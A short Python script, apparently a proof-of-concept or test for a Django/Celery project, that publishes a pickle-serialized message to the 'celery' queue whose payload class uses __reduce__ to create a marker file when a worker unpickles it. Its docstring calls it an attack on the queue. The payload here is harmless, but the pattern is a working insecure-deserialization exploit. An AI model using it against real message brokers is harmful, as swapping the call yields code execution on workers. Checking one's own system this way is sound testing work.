"""Send a message that would write a file if it were unpickled: an attack on the queue."""

import sys
from pathlib import Path

import django

django.setup()

from kombu import Exchange, Queue  # noqa: E402  # Celery needs the settings

from welfare_kmzero.celery import app  # noqa: E402


class Trap:
    def __init__(self, trace: str) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (Path(self.trace),)


if __name__ == "__main__":
    queue = Queue("celery", Exchange("celery"), routing_key="celery")
    with app.connection_for_write() as connection:
        connection.Producer().publish(
            ((Trap(sys.argv[1]),), {}, {}),
            serializer="pickle",
            exchange=queue.exchange,
            routing_key="celery",
            declare=[queue],
            headers={"task": "jobs.work", "id": "1", "lang": "py"},
        )
